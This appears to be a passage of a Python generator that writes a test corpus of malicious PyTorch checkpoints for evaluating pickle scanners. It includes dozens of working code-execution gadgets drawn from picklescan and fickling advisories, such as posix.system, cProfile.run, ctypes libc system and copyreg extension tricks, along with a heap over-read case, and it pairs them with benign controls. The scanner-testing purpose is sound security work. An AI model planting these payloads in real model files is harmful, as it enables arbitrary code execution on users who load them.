     {".metadata": dcp_metadata(), "__0_0.distcp": DISTCP}, role="control",
     kind="dcp")
case("ranks_payload_rank1",
     "per-rank files (model_world_size_2_rank_R.pt), rank 1's with a "
     "payload", "issue 44", BOTH, "posix.system",
     {"model_world_size_2_rank_0.pt": tzip(benign),
      "model_world_size_2_rank_1.pt": tzip(evil)}, kind="ranks")
case("control_ranks", "the per-rank builder, no payload", "issue 44", "-",
     "", {"model_world_size_2_rank_0.pt": tzip(benign),
          "model_world_size_2_rank_1.pt": tzip(benign)}, role="control",
     kind="ranks")


def hf(shard2):
    one = "pytorch_model-00001-of-00002.bin"
    two = "pytorch_model-00002-of-00002.bin"
    idx = {"metadata": {"total_size": 32},
           "weight_map": {"a": one, "b": two}}
    pa = P().op(b"}").s("a").tensor().op(b"s").stop()
    return {"pytorch_model.bin.index.json":
            (json.dumps(idx, indent=2, sort_keys=True) + "\n").encode(),
            one: tzip(pa), two: tzip(shard2)}


case("hf_payload_shard2",
     "a Hugging Face sharded folder, the second shard's data.pkl with a "
     "payload under a key the index does not list", "issue 44", BOTH,
     "posix.system", hf(P().op(b"}(").s("b").tensor().s("payload").call(
         "posix", "system", CMD).op(b"u").stop()), kind="hf")
case("control_hf", "the sharded-folder builder, no payload", "issue 44",
     "-", "", hf(P().op(b"}").s("b").tensor().op(b"s").stop()),
     role="control", kind="hf")


# -- the published classics, each as a state dict's value
def classic(name, technique, source, expect, names, writer, proto=2):
    p = P(proto).op(b"}(").s("w").tensor().s("payload")
    writer(p)
    case(name, technique, source, expect, names, tzip(p.op(b"u").stop()))


def getenv_marker(p):
    p.call("os", "getenv", "PTFS_CANARY")


classic("pip_main", "pip.main(['--log', os.getenv('PTFS_CANARY'), 'list'])"
        " (the advisory's pip install, made harmless)",
        "picklescan Malicious16", "v1", "pip.main",
        lambda p: p.glob("pip", "main").op(b"((").s("--log").val(
            getenv_marker).s("--no-input").s(
            "--disable-pip-version-check").s("list").op(b"ltR"))
classic("pydoc_pipepager", "pydoc.pipepager(text, cmd): cmd runs in a shell",
        "picklescan Malicious18", BOTH, "pydoc.pipepager",
        lambda p: p.call("pydoc", "pipepager", "x", CMD))
classic("timeit_setup", "timeit.timeit('', setup): setup is exec'd",
        "picklescan Malicious21 (GHSA-v7x6-rv5q-mhwc)", BOTH,
        "timeit.timeit", lambda p: p.call("timeit", "timeit", "", PY))
classic("bottleneck_run_cprofile",
        "torch.utils.bottleneck.__main__.run_cprofile(code, globs)",
        "picklescan GHSA-4r9r-ch6f-vxmx", "v1",
        "torch.utils.bottleneck.__main__.run_cprofile",
        lambda p: p.call("torch.utils.bottleneck.__main__", "run_cprofile",
                         PY, {}))
classic("asyncio_subprocess",
        "asyncio.unix_events._UnixSubprocessTransport._start({}, cmd, "
        "shell=True, ...)", "picklescan GHSA-q77w-mwjj-7mqx", BOTH,
        "asyncio.unix_events._UnixSubprocessTransport._start",
        lambda p: p.call("asyncio.unix_events",
                         "_UnixSubprocessTransport._start", {}, CMD, True,
                         None, None, None, 0), proto=4)
inner = P().call("posix", "system", CMD).stop()
classic("pickle_loads_inner", "_pickle.loads(bytes of a second pickle, "
        "which imports posix.system)", "picklescan malicious13b", BOTH,
        "_pickle.loads",
        lambda p: p.call("_pickle", "loads", inner), proto=3)
classic("cpickle_py2_name", "cPickle.loads: a Python 2 name the "
        "unpickler maps to pickle.loads (fix_imports, protocol < 3)",
        "picklescan malicious13a", BOTH, "cPickle.loads|pickle.loads",
        lambda p: p.call("cPickle", "loads", lambda p: p.call(
            "_codecs", "encode", inner.decode("latin1"), "latin1")))
classic("commands_getoutput_py2", "commands.getoutput: a Python 2 name "
        "fix_imports maps to subprocess.getoutput", "issue 44", BOTH,
        "commands.getoutput|subprocess.getoutput",
        lambda p: p.call("commands", "getoutput", CMD))
classic("builtin_py2_exec", "__builtin__.exec (fix_imports: builtins)",
        "picklescan malicious1_v0", BOTH, "__builtin__.exec|builtins.exec",
        lambda p: p.call("__builtin__", "exec", PY))
classic("cprofile_run", "cProfile.run(code)",
        "picklescan GHSA-49gj-c84q-6qm9, fickling GHSA-p523-jq9w-64x9",
        BOTH, "cProfile.run", lambda p: p.call("cProfile", "run", PY))
classic("profile_run", "profile.run(code)", "picklescan GHSA-7wx9-6375-f5wh",
        BOTH, "profile.run", lambda p: p.call("profile", "run", PY))
classic("runpy_run_code", "runpy._run_code(code, globals)",
        "picklescan Malicious14", BOTH, "runpy._run_code",
        lambda p: p.call("runpy", "_run_code", PY, {}))
classic("code_interactive_runsource",
        "getattr(code.InteractiveInterpreter(), 'runsource')(code)",
        "fickling GHSA-q5qq-mvfm-j35x", BOTH,
        "builtins.getattr code.InteractiveInterpreter",
        lambda p: p.sglob("builtins", "getattr").op(b"(").scall(
            "code", "InteractiveInterpreter").s("runsource").op(
            b"tR(").s(PY).op(b"tR"), proto=4)
classic("pkgutil_resolve_name", "pkgutil.resolve_name('posix:system')"
        "(cmd): any callable by a name in a string",
        "picklescan GHSA-vvpj-8cmc-gx39", BOTH, "pkgutil.resolve_name",
        lambda p: p.call("pkgutil", "resolve_name", "posix:system").op(
            b"(").s(CMD).op(b"tR"))
classic("pydoc_locate_methodcaller",
        "operator.methodcaller('system', cmd)(pydoc.locate('posix'))",
        "picklescan GHSA-84r2-jw7c-4r5q", BOTH,
        "operator.methodcaller pydoc.locate",
        lambda p: p.call("operator", "methodcaller", "system", CMD).op(
            b"(").call("pydoc", "locate", "posix").op(b"tR"))
classic("importlib_getattr",
        "getattr(importlib.import_module('posix'), 'system')(cmd)",
        "fickling GHSA-q5qq-mvfm-j35x", BOTH,
        "builtins.getattr importlib.import_module",
        lambda p: p.glob("builtins", "getattr").op(b"(").call(
            "importlib", "import_module", "posix").s("system").op(
            b"tR(").s(CMD).op(b"tR"))
classic("ctypes_cdll_system",
        "getattr(ctypes.CDLL(None), 'system')(b'cmd'): libc's system()",
        "picklescan GHSA-4675-36f9-wf6r, fickling GHSA-5hvc-6wx8-mvv4", BOTH,
        "builtins.getattr ctypes.CDLL",
        lambda p: p.glob("builtins", "getattr").op(b"(").call(
            "ctypes", "CDLL", None).s("system").op(b"tR(").by(
            CMD.encode()).op(b"tR"), proto=3)
classic("uuid_get_command_stdout",
        "uuid._get_command_stdout('sh', '-c', cmd)",
        "picklescan GHSA-g38g-8gr9-h9xp", BOTH, "uuid._get_command_stdout",
        lambda p: p.call("uuid", "_get_command_stdout", "sh", "-c", CMD))
classic("osx_support_read_output", "_osx_support._read_output(cmd)",
        "picklescan GHSA-g38g-8gr9-h9xp", BOTH, "_osx_support._read_output",
        lambda p: p.call("_osx_support", "_read_output", CMD))
classic("imaplib_stream", "imaplib.IMAP4_stream(cmd): a shell command",
        "picklescan GHSA-g38g-8gr9-h9xp", BOTH, "imaplib.IMAP4_stream",
        lambda p: p.call("imaplib", "IMAP4_stream", CMD))
classic("ensurepip_run_pip", "ensurepip._run_pip(code): its args are "
        "pasted into the code of a python -c", "picklescan "
        "GHSA-xp4f-hrf8-rxw7", "v1", "ensurepip._run_pip",
        lambda p: p.call("ensurepip", "_run_pip", PY))
classic("collect_env_run", "torch.utils.collect_env.run(cmd): shell=True",
        "picklescan GHSA-f745-w6jp-hpxx", BOTH,
        "torch.utils.collect_env.run",
        lambda p: p.call("torch.utils.collect_env", "run", CMD))
classic("jit_execwrapper",
        "torch.jit.unsupported_tensor_ops.execWrapper(code, {}, {})",
        "picklescan GHSA-vr7h-p6mm-wpmh", BOTH,
        "torch.jit.unsupported_tensor_ops.execWrapper",
        lambda p: p.call("torch.jit.unsupported_tensor_ops", "execWrapper",
                         PY, {}, {}))
classic("datapipes_basichandlers",
        "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', "
        "bytes): pickle.loads of a second pickle",
        "picklescan GHSA-h3qp-7fh3-f8h4", BOTH,
        "torch.utils.data.datapipes.utils.decoder.basichandlers",
        lambda p: p.call("torch.utils.data.datapipes.utils.decoder",
                         "basichandlers", "pickle", inner), proto=3)
classic("config_module_load_config",
        "torch.utils._config_module.ConfigModule.load_config({}, bytes): "
        "pickle.loads first", "picklescan GHSA-vv6j-3g6g-2pvj", "v2",
        "torch.utils._config_module.ConfigModule.load_config",
        lambda p: p.call("torch.utils._config_module",
                         "ConfigModule.load_config", {}, inner), proto=4)
classic("symbolic_shapes_eval",
        "ShapeEnv.evaluate_guards_expression({}, code, []): eval",
        "picklescan GHSA-f4x7-rfwp-v3xw", "v2",
        "torch.fx.experimental.symbolic_shapes.ShapeEnv."
        "evaluate_guards_expression",
        lambda p: p.call("torch.fx.experimental.symbolic_shapes",
                         "ShapeEnv.evaluate_guards_expression", {}, PY, []),
        proto=4)
classic("numpy_runstring", "numpy.testing._private.utils.runstring(code, {})",
        "picklescan Malicious22", BOTH,
        "numpy.testing._private.utils.runstring",
        lambda p: p.call("numpy.testing._private.utils", "runstring", PY,
                         {}))
classic("f2py_getlincoef", "numpy.f2py.crackfortran.getlincoef(code, []): "
        "eval", "picklescan GHSA-r8g5-cgf2-4m4m", BOTH,
        "numpy.f2py.crackfortran.getlincoef",
        lambda p: p.call("numpy.f2py.crackfortran", "getlincoef", PY, []))
classic("spawnv_passfds",
        "multiprocessing.util.spawnv_passfds(b'/bin/sh', [sh, -c, cmd], ())",
        "fickling GHSA-q5qq-mvfm-j35x", BOTH,
        "multiprocessing.util.spawnv_passfds",
        lambda p: p.call("multiprocessing.util", "spawnv_passfds",
                         b"/bin/sh", [b"/bin/sh", b"-c", CMD.encode()],
                         lambda p: p.op(b")")), proto=3)
classic("pty_spawn", "pty.spawn(['/bin/sh', '-c', cmd]) (needs a pty: "
        "the torch 2.x root has no /dev/pts)",
        "picklescan GHSA-vqmv-47xg-9wpr, fickling GHSA-r7v6-mfhq-g3m2",
        "v1", "pty.spawn",
        lambda p: p.call("pty", "spawn", ["/bin/sh", "-c", CMD]))
classic("build_setstate_twice",
        "BUILD sets OrderedDict().__setstate__ = posix.system, a second "
        "BUILD calls it with the command", "sour pickles (BH US 2011), "
        "fickling", BOTH, "posix.system",
        lambda p: p.glob("collections", "OrderedDict").op(b")R").op(
            b"}").s("__setstate__").glob("posix", "system").op(
            b"sb").s(CMD).op(b"b"))
classic("newobj_popen", "NEWOBJ of subprocess.Popen: cls.__new__ only, "
        "__init__ never runs", "issue 44", "-", "subprocess.Popen",
        lambda p: p.glob("subprocess", "Popen").op(b"(").s(CMD).op(
            b"t\x81"))
classic("ext_copyreg_registered",
        "copyreg.add_extension('posix', 'system', 240), then EXT1 240: "
        "the global never appears as GLOBAL", "issue 44", BOTH,
        "copyreg.add_extension",
        lambda p: p.call("copyreg", "add_extension", "posix", "system",
                         240).op(b"0").op(b"\x82\xf0(").s(CMD).op(b"tR"))
classic("ext1_unregistered", "EXT1 of a code nobody registered",
        "issue 44", "-", "", lambda p: p.op(b"\x82\x01"))
classic("setitems_on_list",
        "SETITEMS applied to a list, and a storage whose record is "
        "shorter than its element count (the shapes of the weights_only "
        "unpickler's memory corruption)",
        "CVE-2026-24747 (GHSA-63cw-57p8-fm3p, pytorch#163105, fixed in "
        "2.10)", "-", "",
        lambda p: p.op(b"](").i(0).i(1).op(b"u"))
p = P().op(b"}").s("w").tensor(numel=1 << 20, shape=(1 << 20,)).op(b"s")
case("storage_numel_past_record",
     "a storage claiming 2^20 floats over a 16-byte record (torch 2.10+ "
     "refuses it; 1.13 loads it, weights_only=True too, the bytes past "
     "the record read from its heap)",
     "CVE-2026-24747 (GHSA-63cw-57p8-fm3p)", "-", "", tzip(p.stop()))


def cases():
    for c in CASES:
        yield c["name"], c["kind"], c["files"]


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "manifest.tsv"), "w") as m:
        for c in CASES:
            for rel, data in c["files"].items():
                path = os.path.join(out, rel)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as f:
                    f.write(data)
            m.write("\t".join(c[k] for k in (
                "name", "kind", "path", "role", "expect", "names", "source",
                "technique")) + "\n")
    print("%d cases in %s" % (len(CASES), out))


if __name__ == "__main__":
    main()
